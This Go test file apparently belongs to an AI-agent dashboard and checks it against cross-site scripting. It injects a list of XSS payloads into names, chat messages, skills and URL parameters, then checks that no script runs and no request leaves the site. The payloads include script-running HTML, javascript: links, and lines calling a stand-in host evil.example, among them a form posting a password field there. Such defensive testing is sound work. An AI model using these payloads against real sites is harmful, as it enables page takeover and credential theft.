package dashboard

import (
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"agento.host/agento/client"
	"agento.host/agento/internal/apitest"
	"agento.host/agento/internal/dashboard/browsertest"
)

// shortPayloads are names that become a part of the page, run, or load something, if a page does not take them as text.
// Every element of theirs has the class xss.
var shortPayloads = []string{
	`<img src=x onerror=alert(1) class=xss>`,
	`"><svg onload=alert(2) class=xss>`,
	`'><script class=xss>alert(3)</script>`,
	`</textarea></title></select></script><b class=xss>4`,
	`<iframe class=xss srcdoc="<script>parent.alert(5)</script>">`,
	`javascript:alert(6)//`,
	`" autofocus onfocus="alert(7)" class="xss`,
	"`${alert(8)}` {{constructor.constructor('alert(8)')()}}",
	`<a class=xss href="javascript:alert(9)">nine</a>`,
	`<form class=xss action=//evil.example><input name=password>`,
	`<style class=xss>@import '//evil.example/x.css';</style>`,
	`<meta class=xss http-equiv=refresh content="0;url=//evil.example">`,
	`<base class=xss href=//evil.example/><link class=xss rel=prefetch href=//evil.example/y>`,
	`<math><mtext class=xss><table><mglyph><style><img src=x onerror=alert(14)>`,
	`--><!--><img class=xss src=//evil.example/z.png>`,
	`<details class=xss open ontoggle=alert(16)>`,
	`[click](javascript:alert(17)) ![x](http://evil.example/i.png)`,
	`<video class=xss><source onerror=alert(18)></video>`,
	`&lt;img src=x onerror=alert(19) class=xss&gt; &#x3c;b class=xss&#x3e;`,
	"\u202Egnp.exe \u2066<b class=xss>\u2069 \u200f",
}

// longPayload has all of them, and what a reader of Markdown could make of a text.
func longPayload() string {
	return strings.Join(shortPayloads, "\n\n") + "\n\n" + strings.Join([]string{
		"[x]: javascript:alert(30) 'x'", "[x]", "<javascript:alert(31)>", "[data](data:text/html,<script>alert(32)</script>)", "[vb](vbscript:alert(33))",
		"[tab](java\tscript:alert(34))", "[case](JaVaScRiPt:alert(35))", "[entity](javascript&#58;alert(36))", "[control](\x01javascript:alert(37))",
		"![remote](https://evil.example/i.png)", "[![nested](https://evil.example/i.png)](https://evil.example/)", "https://evil.example/preview",
		"```html\n<img class=xss src=x onerror=alert(38)>\n```", "| a | b |\n|---|---|\n| <b class=xss>c</b> | [d](javascript:alert(39)) |",
		"<details class=xss><summary>x</summary></details>", "- [ ] <input class=xss>", "**<u class=xss>bold</u>**", "`<b class=xss>`", "$$\\href{javascript:alert(40)}{x}$$",
		"<svg class=xss><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(41)'/></svg>#x\"/></svg>",
	}, "\n\n")
}

// hostileTexts are those of somebody who wants to take over the page: each name is the next payload.
func hostileTexts(first int) texts {
	next := first
	return texts{
		name: func(string) string {
			next++
			return shortPayloads[next%len(shortPayloads)]
		},
		long: func(string) string { return longPayload() },
	}
}

// hostileNames are the parameters that pages read.
var hostileNames = []string{"search", "q", "status", "state", "swarm", "agent", "tab", "sort", "order", "from", "to", "since", "until", "level", "text", "session", "peer", "version", "page", "model", "group", "by", "range", "source", "category", "trust", "trustLevel", "actor", "action", "kind", "next", "error", "notice", "account", "message", "cursor", "offset", "base", "edit"}

// TestChaosHostileTexts writes payloads into every field that people, agents, peers and models can write, and opens every
// page: no script of theirs may run, no element be made, no request go anywhere.
func TestChaosHostileTexts(t *testing.T) {
	needsChaos(t)
	b := browsertest.Start(t)
	for first := range 3 { // each field gets several payloads
		env := newEnv(t)
		w := newWorld(t, env, hostileTexts(first*7))
		w.moreNames(t)
		tab := env.open(b, "owner")
		for _, path := range w.pages(t) {
			openHostile(t, tab, env.URL, path)
		}
		tab = b.Tab()
		for _, path := range w.publicPages() {
			openHostile(t, tab, env.URL, path)
		}
	}
}

// TestChaosHostileAddresses opens every page with payloads in all parameters, one that is in the path included.
func TestChaosHostileAddresses(t *testing.T) {
	needsChaos(t)
	env := newEnv(t)
	w := newWorld(t, env, plainTexts())
	b := browsertest.Start(t)
	tab := env.open(b, "owner")
	for i, path := range w.pages(t) {
		for j := range 2 {
			query := url.Values{}
			for k, name := range hostileNames {
				query.Set(name, shortPayloads[(i+j*7+k)%len(shortPayloads)])
			}
			openHostile(t, tab, env.URL, path+"?"+query.Encode())
			for _, name := range hostileNames[:6] { // one alone, so that another one does not hide it behind an error
				openHostile(t, tab, env.URL, path+"?"+url.Values{name: {shortPayloads[(i+j)%len(shortPayloads)]}}.Encode())
			}
		}
	}
	nobody := b.Tab()
	for _, payload := range shortPayloads {
		for _, path := range []string{"/sign-in?next=", "/sign-in/code?next=", "/invitation?token=", "/reset?token=", "/first?token="} {
			openHostile(t, nobody, env.URL, path+url.QueryEscape(payload))
		}
		openHostile(t, tab, env.URL, "/agents/"+url.PathEscape(payload))
	}
}

// openHostile opens a page and looks for traces of payloads.
func openHostile(t *testing.T, tab *browsertest.Tab, base, path string) {
	t.Helper()
	tab.ForgetRequests()
	tab.Open(base + root + path)
	path = path[:min(len(path), 150)] // of the complaints
	tab.Eval(`for (const d of document.querySelectorAll('details')) d.open = true; new Promise(done => setTimeout(done, 50))`)
	for _, d := range tab.Dialogs() {
		t.Errorf("%s opens a dialog: %s", path, d)
	}
	for _, p := range tab.Problems() {
		if !strings.Contains(p, "Failed to load resource") || !strings.Contains(p, root) {
			t.Errorf("%s: the browser says: %s", path, p)
		}
	}
	for _, u := range tab.Elsewhere(base) {
		t.Errorf("%s requests %s", path, u)
	}
	if !strings.HasPrefix(tab.URL(), base+root) {
		t.Errorf("%s leads to %s", path, tab.URL())
	}
	for _, trace := range tab.Eval(traces).([]any) {
		t.Errorf("%s has %v", path, trace)
	}
}

// traces lists the elements that no page has, unless somebody's text was taken as HTML, and links that run.
const traces = `[
	...document.querySelectorAll('.xss, iframe, object, embed, base, math, video, audio, meta[http-equiv=refresh], script:not([src]), style, [onerror], [onload], [onfocus], [ontoggle], [onclick]'),
	...[...document.querySelectorAll('img, source, link[href], use, image')].filter(e => { const u = e.src || e.href?.baseVal || e.href || ''; return u && !u.startsWith('data:') && new URL(u, location).origin != location.origin }),
	...[...document.querySelectorAll('a[href], form[action], [formaction]')].filter(e => {
		const u = new URL(e.getAttribute('href') ?? e.getAttribute('formaction') ?? e.getAttribute('action'), location);
		if (!['http:', 'https:', 'mailto:'].includes(u.protocol)) return true;
		return u.origin != location.origin && (e.localName != 'a' || !/noreferrer/.test(e.rel));
	}),
].map(e => e.outerHTML.slice(0, 200))`

// moreNames makes one of everything that has a name for each payload.
func (w *world) moreNames(t *testing.T) {
	t.Helper()
	ctx := t.Context()
	for i, payload := range shortPayloads {
		var errs []error
		_, err := w.api.CreateSwarm(ctx, client.CreateSwarmRequest{Name: payload, Description: payload, Icon: payload[:min(len(payload), 40)]})
		errs = append(errs, err)
		_, err = w.api.BeginAgent(ctx, client.CreateAgentRequest{Name: payload, Secrets: client.Secrets{"anthropicApiKey": "sk-ant-hidden"}})
		errs = append(errs, err)
		_, err = w.api.CreateKey(ctx, client.CreateKeyRequest{Label: payload, Scopes: []string{"chat"}})
		errs = append(errs, err)
		_, err = w.api.IngestKnowledge(ctx, client.KnowledgeIngest{SwarmID: w.swarm, Chunks: []client.KnowledgeChunk{{Text: payload + fmt.Sprint(" ", i), Source: payload, Metadata: map[string]any{"type": payload, payload: payload}}}}, client.IngestOptions{})
		errs = append(errs, err)
		_, err = w.api.UploadSkill(ctx, client.UploadSkillRequest{
			ID: fmt.Sprint("hostile-", i), Name: payload, Version: "1.0.0", Author: payload, Category: payload[:min(len(payload), 40)], Tags: []string{payload}, EnhancedDescription: strings.Join(shortPayloads, " "),
			UseCases: []string{payload}, Tools: []string{payload},
			SkillMD: fmt.Sprintf("---\nname: hostile-%d\ndescription: %q\n---\n%s", i, payload, longPayload()),
		})
		errs = append(errs, err)
		w.env.Gateways.SetScript(apitest.AnswerOnce(payload))
		for _, err := range w.api.Chat(ctx, w.agent, client.ChatRequest{Message: payload, PeerID: payload, Context: payload}) {
			errs = append(errs, err)
		}
		w.env.Gateways.SetScript(apitest.AnswerOnce(apitest.FailurePrefix + payload))
		for _, err := range w.api.Chat(ctx, w.agent, client.ChatRequest{Message: payload, PeerID: payload}) {
			_ = err // the model's own words, which are in the turn
		}
		for _, err := range errs {
			if err != nil {
				if refusal := (*client.Error)(nil); !errors.As(err, &refusal) || refusal.Status >= http.StatusInternalServerError {
					t.Fatal(err)
				}
				t.Logf("refused: %q: %v", payload, err)
			}
		}
	}
	for range 3 {
		w.env.Gateways.SetScript(apitest.AnswerOnce(longPayload()))
		for _, err := range w.api.Chat(ctx, w.agent, client.ChatRequest{Message: longPayload()}) {
			if err != nil {
				t.Fatal(err)
			}
		}
	}
}
